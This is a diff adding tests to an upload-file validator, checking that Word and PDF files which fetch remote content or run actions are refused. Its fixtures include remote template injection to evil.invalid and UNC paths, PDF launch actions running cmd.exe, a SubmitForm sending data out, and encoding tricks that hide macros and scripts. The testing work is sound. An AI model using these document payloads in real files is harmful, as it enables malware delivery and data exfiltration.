@@ -1,9 +1,12 @@
+import { deflateSync } from 'node:zlib'
 import { describe, expect, it } from 'vitest'
 import { checkFile, maxBytesPerFile, sniff } from '../../src/files/kinds.ts'
 import { took } from '../took.ts'
 import { bytesOf, doc, docx, joined, jpg, packedPdf, pdf, png, types, zip } from './samples.ts'
 
 const allowed = { 'a.pdf': pdf(), 'a.doc': doc(), 'a.docx': docx(), 'a.jpg': jpg(), 'a.jpeg': jpg(), 'a.png': png() }
+// What packs badly, so that a document is not taken for one that is made to swell.
+const noise = Array.from({ length: 40_000 }, () => Math.random().toString(36)).join('')
 const because = (name: string, bytes: Uint8Array) => {
   const found = checkFile({ name, bytes })
   return found.ok ? undefined : found.because.zh
@@ -90,6 +93,71 @@ describe('a file is not too small and not too big', () => {
   it('takes the largest picture that a phone makes', () => expect(because('a.jpg', jpg(12_000, 9_000))).toBeUndefined())
 })
 
+describe('a Word document fetches nothing when it is opened', () => {
+  const type = (name: string) => `http://schemas.openxmlformats.org/officeDocument/2006/relationships/${name}`
+  const rels = (...all: string[]) => `<?xml version="1.0"?><Relationships>${all.join('')}</Relationships>`
+  const one = (name: string, target: string, mode = 'External') =>
+    `<Relationship Id="rId1" Type="${type(name)}" Target="${target}" TargetMode="${mode}"/>`
+  const at = 'word/_rels/settings.xml.rels'
+  const template = one('attachedTemplate', 'http://evil.invalid/a.dotm')
+  const utf16 = (text: string) => `\ufeff${text}`
+
+  it.each([
+    ['a template from elsewhere', docx({ [at]: rels(template) })],
+    ['a template from another machine', docx({ [at]: rels(one('attachedTemplate', 'file:///\\\\evil\\a.dotm')) })],
+    ['a template in a list called in capitals', docx({ 'word/_rels/Settings.XML.RELS': rels(template) })],
+    [
+      'a picture from elsewhere',
+      docx({ 'word/_rels/document.xml.rels': rels(one('image', 'https://evil.invalid/a.png')) }),
+    ],
+    [
+      'an object from elsewhere',
+      docx({ 'word/_rels/document.xml.rels': rels(one('oleObject', 'https://evil.invalid')) }),
+    ],
+    [
+      'an object of another program',
+      docx({ 'word/_rels/document.xml.rels': rels(one('oleObject', 'embeddings/a.bin', 'Internal')) }),
+    ],
+    ['a web page inside', docx({ 'word/_rels/document.xml.rels': rels(one('aFChunk', 'a.htm', 'Internal')) })],
+    ['a template behind numbers', docx({ [at]: rels(template.replace('External', 'E&#x78;ternal')) })],
+    ['a template that calls itself a link', docx({ [at]: rels(template.replace('rId1', `Type='x/hyperlink'`)) })],
+    [
+      'a template far from its name',
+      docx({ [at]: rels(template.replace('TargetMode=', `TargetMode${' '.repeat(500)}=`)) }),
+    ],
+    ['a template behind a prefix', docx({ [at]: rels(template.replace('<Relationship', '<r:Relationship')) })],
+    [
+      'a list of words of its own',
+      docx({ [at]: `<!DOCTYPE x [<!ENTITY e "External">]>${rels(template.replace('External', '&e;'))}` }),
+    ],
+    ['a list in letters that we do not read', docx({ [at]: utf16(rels(template)).split('').join('\0') })],
+    ['lists without end', docx({ [at]: ' '.repeat(4_200_000), 'word/media/a.png': noise })],
+  ])('one with %s is refused', (_, bytes) => expect(because('a.docx', bytes)).toContain('从别处读取'))
+
+  it('one with links to follow, parts of its own and a template on one’s own disk is taken in', () => {
+    const document = rels(
+      one('hyperlink', 'https://court.example/a?b=1&amp;c=2'),
+      one('image', 'media/a.png', 'Internal'),
+    )
+    const own = rels(one('attachedTemplate', 'file:///C:\\Users\\王\\Templates\\合同.dotx'))
+    expect(because('a.docx', docx({ 'word/_rels/document.xml.rels': document, [at]: own }))).toBeUndefined()
+  })
+
+  it.each([
+    ['in UTF-16', docx({ [types]: `\ufeff${[...'<Types>macroEnabled'].join('\0')}` })],
+    ['behind numbers', docx({ [types]: '<Types>macro&#69;nabled.main' })],
+    ['in a second list', zip({ [types]: '<Types/>', 'word/document.xml': '', '[content_types].XML': 'macroEnabled' })],
+  ])('macros that a list tells of %s are seen', (_, bytes) => expect(because('a.docx', bytes)).toContain('只接收'))
+
+  it.each(['<Relationship ', '<Relationship Id="', '<Relationship a = ', '&#', ' \n'])(
+    'a list of nothing but “%s” is read in one walk',
+    async (piece) => {
+      const bytes = docx({ [at]: piece.repeat(3_000_000 / piece.length), 'word/media/a.png': noise })
+      expect(await took(() => checkFile({ name: 'a.docx', bytes }))).toBeLessThan(1500)
+    },
+  )
+})
+
 describe('a PDF cannot act by itself', () => {
   const script = '1 0 << /S /JavaScript >>'
 
@@ -99,6 +167,10 @@ describe('a PDF cannot act by itself', () => {
     ['a script that plays a sound', pdf('/OpenAction << /S /Rendition /JS (app.alert(1)) >>')],
     ['a launch action behind escapes', pdf('/OpenAction << /S /#4caun#63h /F (cmd.exe) >>')],
     ['a launch action', pdf('/OpenAction << /S /Launch /F (cmd.exe) >>')],
+    ['an XFA form', pdf('/AcroForm << /XFA 3 0 R >>')],
+    ['an XFA form in a packed object', packedPdf('1 0 << /XFA 3 0 R >>')],
+    ['a file elsewhere that is opened', pdf('/OpenAction << /S /GoToR /F (\\\\evil\\share\\a.pdf) >>')],
+    ['a form that is sent off', pdf('/OpenAction << /S /SubmitForm /F (http://evil.invalid) >>')],
     ['an attached file', pdf('/Names << /EmbeddedFiles 3 0 R >>')],
     ['a script in a packed object', packedPdf('1 0 << /S /JavaScript >>')],
     ['an escaped script in a packed object', packedPdf('1 0 << /S /JavaScr#69pt >>')],
@@ -124,6 +196,27 @@ describe('a PDF cannot act by itself', () => {
   it('objects packed in a way we cannot unpack are refused', () => {
     expect(because('a.pdf', pdf('/First 4 /Filter /LZWDecode >>\nstream\nxxxx\nendstream'))).toContain('无法读取')
   })
+
+  const twice = (dictionary: string) => packedPdf(new Uint8Array(deflateSync(script)), dictionary)
+  it.each([
+    ['packed twice', twice('/First 4 /Filter [/FlateDecode /FlateDecode]')],
+    ['packed twice behind escapes', twice('/First 4 /Fil#74er [/FlateDecode /FlateDecode]')],
+    [
+      'packed twice and said to be packed once',
+      twice('/First 4 /Filter [/FlateDecode /FlateDecode] /X (obj /Filter /Fl)'),
+    ],
+    ['packed twice and said so twice', twice('/First 4 /Filter [/FlateDecode /FlateDecode] /Filter /FlateDecode')],
+    ['written as differences', packedPdf('1 0 x', '/First 4 /Filter /FlateDecode /DecodeParms << /Predictor 2 >>')],
+    ['packed in a way that is told elsewhere', packedPdf('1 0 x', '/First 4 /Filter 9 0 R')],
+  ])('objects %s are refused', (_, bytes) => expect(because('a.pdf', bytes)).toContain('无法读取'))
+
+  it.each(['/Filter/FlateDecode', '/Filter [ /FlateDecode ]', '/Filter /Fl /Extends 7 0 R /Length 8 0 R'])(
+    'objects packed as %s are taken in',
+    (filter) =>
+      expect(
+        because('a.pdf', packedPdf('1 0 << /Type /Page >>', `/Type/ObjStm /N 1 /First 4 ${filter}`)),
+      ).toBeUndefined(),
+  )
 
   it('objects that swell past ten megabytes are refused and unpacking stops there', () => {
     expect(because('a.pdf', packedPdf(new Uint8Array(50_000_000)))).toContain('无法读取')
